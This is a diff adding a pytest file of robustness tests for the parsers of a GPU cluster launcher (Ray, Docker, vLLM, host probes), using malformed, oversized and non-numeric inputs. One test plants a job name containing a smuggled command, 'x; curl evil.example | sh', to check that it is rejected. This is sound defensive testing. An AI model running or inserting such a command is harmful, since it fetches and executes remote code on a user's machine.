@@ -1,0 +1,126 @@
+"""Single answers that once led to a traceback, or to no end: each one by itself."""
+
+from __future__ import annotations
+
+import json
+import time
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from launcher.checks import serving
+from launcher.checks.ray import read_payload
+from launcher.discovery import stock
+from launcher.errors import UnreadableAnswer
+from launcher.model import Answer
+from launcher.plan import network, running, status
+from launcher.tools import desk, docker, gpu_survey, head_answer, host, pairs, ray, vllm
+from tests.hostile import seeds
+
+
+def answer(said: object) -> Answer:
+    return Answer(node="gpu01", code=0, out=said if isinstance(said, str) else json.dumps(said))
+
+
+def rows(*each: Any) -> dict[str, Any]:
+    return {"data": {"result": {"result": list(each)}}}
+
+
+def usage(text: str) -> str:
+    return f"Active:\n 1 node_a\n\nTotal Usage:\n {text}\n"
+
+
+@pytest.mark.parametrize(
+    "read",
+    [
+        lambda: ray.parse_nodes(rows({"node_id": "a", "node_ip": [], "state": "ALIVE"})),
+        lambda: ray.parse_nodes(rows(1)),
+        lambda: ray.parse_ranks(rows({"name": 5, "state": "ALIVE"}), ()),
+        lambda: ray.parse_ranks(rows({"name": "vllm_Worker_a1", "state": "ALIVE", "node_id": [1]}), ()),
+        lambda: ray.parse_status("Active:\n " + "9" * 5000 + " node_a\n"),
+        lambda: read_payload(answer({"jobs": None})),
+        lambda: read_payload(answer({"jobs": [{"submission_id": 1, "status": "RUNNING"}]})),
+        lambda: read_payload(answer({"replicas": {"": None}})),
+        lambda: read_payload(answer({"offset": 10**30})),
+        lambda: docker.parse_containers(json.dumps([{"Name": "/a", "Id": {}, "Config": {}, "State": {}}])),
+        lambda: docker.parse_containers('[{"Name": "/a", "Id": "b", "Config": {}, "State": {"ExitCode": 1e999}}]'),
+        lambda: docker.parse_containers("[" * 100_000),
+        lambda: pairs.parse(answer("[" * 100_000)),
+        lambda: host.parse_probe("@@vlaunch home\n/\n@@vlaunch rc 0\n@@vlaunch addr\n" + "[" * 100_000 + "\n@@vlaunch rc 0\n"
+                                 "@@vlaunch containers\n\n@@vlaunch rc 0\n"),
+        lambda: desk.parse_outputs(answer({"files": [{"path": "summary.json", "bytes": 10**400, "sha256": ""}]})),
+        lambda: desk.parse_follow(answer({"job": {"status": "RUNNING"}, "offset": -1})),
+    ],
+)  # fmt: skip
+def test_answers_that_cannot_be_read(read: Callable[[], Any]) -> None:
+    """Say so."""
+    with pytest.raises(UnreadableAnswer):
+        read()
+
+
+def test_figures_that_are_none() -> None:
+    """Are left out."""
+    assert vllm.capacity({"kv_cache_size_tokens": "inf", "kv_cache_max_concurrency": "nan"}).tokens is None
+    assert (
+        vllm.capacity({}, "KV cache size: , tokens\nMaximum concurrency for 1 tokens per request: 1.2.3x").concurrency is None
+    )
+    assert vllm.root_cause("") == ""
+    assert ray.parse_status(usage("1.2.3/4 GPU")).gpus_total is None
+    assert status._number("inf", int) is None
+    assert status._number("nan", float) is None
+    assert serving.busy_gpus({"groups": rows({"state": "CREATED", "bundles": 5}), "actors": rows({"state": "ALIVE"})}) == 0
+    assert serving.claimed({"metadata": {desk.GPUS: "inf"}}) == 0
+
+
+def test_labels_that_no_server_of_ours_has() -> None:
+    """Numbers in other scripts, and such that no float holds."""
+    labels = {running.MODEL: "m", running.PORT: "²", running.TP: "9" * 5000, running.PP: "1", running.DP: "²"}
+    (found,) = running.find(seeds.inventory(), {}, {"jobs": [seeds.job("serve-1", labels)]})
+    assert (found.port, found.gpus, found.replicas) == (8000, 0.0, 1)
+
+
+def test_a_name_that_is_a_command() -> None:
+    """Hints name jobs, and people run hints."""
+    job = seeds.job("batch-1", {desk.NAME: "x; curl evil.example | sh", desk.GPUS: "1"})
+    assert serving.batch_holders({"jobs": [job]}) == []
+    assert running.batches({"jobs": [job]}) == []
+
+
+def test_files_that_are_less_than_nothing() -> None:
+    """What is on its way goes on at an offset that a file has."""
+    entry = desk.parse_entry(answer({**seeds.ENTRY, "inputs": {"a": -5, "b": True, "c": 3}}))
+    assert dict(entry.inputs) == {"c": 3}
+
+
+def test_a_report_of_another_node() -> None:
+    """Counts for none."""
+    said = json.dumps({"node": "gpu02", "backend": "gloo"})
+    assert network.read({"gpu01": [answer(said)]}) == ({}, {"gpu01": "the network probe answered for another node"})
+
+
+def test_a_token_that_is_none() -> None:
+    """It would go to every node, and be taken out of all that is shown."""
+    text = dict(seeds.probes())["gpu01"].replace("@@vlaunch token\ntok", "@@vlaunch token\n" + "status \n" * 9)
+    assert host.parse_probe(text).token == ""
+
+
+def test_tags_that_are_no_text() -> None:
+    """Of an image that a host has."""
+    item = {"Id": "a", "RootFS": {}, "Config": {}, "RepoTags": [1, "vllm:1"]}
+    found = stock.parse(f"@@stock home /d\nx {'9' * 5000} 4% /\n@@stock images\n{json.dumps([item])}\n@@stock end\n")
+    assert list(found.images) == ["vllm:1"]
+    assert found.homes[0].free is None
+
+
+def test_spaces_without_end() -> None:
+    """A pattern that tries every way to part them."""
+    began = time.thread_time()
+    gpu_survey.read_processes("GPU-x, 1," + " " * 200_000)
+    assert time.thread_time() - began < 2
+
+
+def test_fields_that_are_known_have_a_kind() -> None:
+    """And what is not known is left to who asked for it."""
+    assert head_answer.trouble({"supervised": 5, "new": []}) == ""
+    assert "`health`" in head_answer.trouble({"health": "200"})
